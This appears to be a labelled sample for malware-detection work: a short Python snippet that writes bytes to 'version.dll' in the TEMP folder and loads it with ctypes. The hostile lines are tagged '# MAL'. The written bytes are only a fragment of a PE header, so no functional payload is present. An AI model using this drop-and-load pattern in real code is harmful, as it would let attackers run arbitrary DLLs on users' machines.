import ctypes
import os

dll = os.path.join(os.getenv("TEMP"), "version.dll")
with open(dll, "wb") as fh:  # MAL
    fh.write(bytes.fromhex("4d5a90000300000004000000ffff0000"))  # MAL
ctypes.WinDLL(dll)  # MAL
